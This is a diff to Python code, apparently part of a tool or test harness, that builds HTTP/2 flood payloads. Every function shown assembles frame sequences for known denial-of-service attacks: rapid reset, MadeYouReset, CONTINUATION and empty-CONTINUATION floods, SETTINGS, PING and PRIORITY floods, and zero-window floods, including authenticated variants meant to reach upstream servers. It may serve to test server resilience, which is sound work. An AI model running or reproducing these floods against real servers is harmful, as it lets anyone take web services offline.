@@ -53,26 +53,50 @@ class Flood:
 
 
 def floods(path, token):
-    """Of strangers, who have no token; but for those that need an answer from an upstream, whose caller limits know."""
-    get, post = request("GET", path), request("POST", path)
-    large = request("GET", path + "/bytes/1m", "authorization", "Bearer " + token)
+    """Of strangers, who have no token, and of callers, whose requests reach an upstream."""
+    bearer = ("authorization", "Bearer " + token)
+    return requests(path) + frames() + requests(path, *bearer) + answers(path, *bearer)
+
+
+def requests(path, *fields):
+    get, post = request("GET", path, *fields), request("POST", path, *fields)
+    who = ", by a caller" if fields else ""
 
     def head(stream, flags=END_HEADERS):
         return frame(HEADERS, flags, stream, post)
 
+    def asked(stream):
+        return frame(HEADERS, END_HEADERS | END_STREAM, stream, get)
+
+    def taken_back(stream):
+        return frame(RST_STREAM, 0, stream, CANCEL) if stream > 0 else b""
+
     return [
-        Flood("rapid reset (CVE-2023-44487)", then=lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, get) + frame(RST_STREAM, 0, 2 * i + 1, CANCEL)),
-        Flood("MadeYouReset (CVE-2025-8671)", then=lambda i: head(2 * i + 1) + frame(WINDOW_UPDATE, 0, 2 * i + 1, bytes(4))),
-        Flood("CONTINUATION (CVE-2024-27316)", head(1, 0), lambda i: frame(CONTINUATION, 0, 1, block("x", "y" * 500))),
-        Flood("empty CONTINUATION", head(1, 0), lambda i: frame(CONTINUATION, 0, 1)),
+        Flood("rapid reset (CVE-2023-44487)" + who, then=lambda i: asked(2 * i + 1) + taken_back(2 * i + 1)),
+        # What the write before has asked for: on its way to the upstream, if it goes there.
+        Flood("resets that come later" + who, then=lambda i: asked(2 * i + 1) + taken_back(2 * (i - BATCH) + 1)),
+        Flood("MadeYouReset (CVE-2025-8671)" + who, then=lambda i: head(2 * i + 1) + frame(WINDOW_UPDATE, 0, 2 * i + 1, bytes(4))),
+        Flood("CONTINUATION (CVE-2024-27316)" + who, head(1, 0), lambda i: frame(CONTINUATION, 0, 1, block("x", "y" * 500))),
+        Flood("empty CONTINUATION" + who, head(1, 0), lambda i: frame(CONTINUATION, 0, 1)),
+        Flood("empty DATA (CVE-2019-9518)" + who, head(1), lambda i: frame(DATA, 0, 1)),
+        Flood("half a header block" + who, head(1, 0)),
+    ]
+
+
+def frames():
+    return [
         Flood("SETTINGS (CVE-2019-9515)", then=lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 256 + i % 2))),
         Flood("PING (CVE-2019-9512)", then=lambda i: frame(PING, 0, 0, bytes(8))),
         Flood("PRIORITY (CVE-2019-9513)", then=lambda i: frame(PRIORITY, 0, 2 * i + 1, bytes((0, 0, 0, 0, 1)))),
-        Flood("empty DATA (CVE-2019-9518)", head(1), lambda i: frame(DATA, 0, 1)),
         Flood("WINDOW_UPDATE by a byte", then=lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
+    ]
+
+
+def answers(path, *fields):
+    large = request("GET", path + "/bytes/1m", *fields)
+    return [
         Flood("shut windows (CVE-2019-9517)", b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, large) for i in range(100)),
               settings=struct.pack(">HI", 4, 0)),
-        Flood("half a header block", head(1, 0)),
     ]
 
 
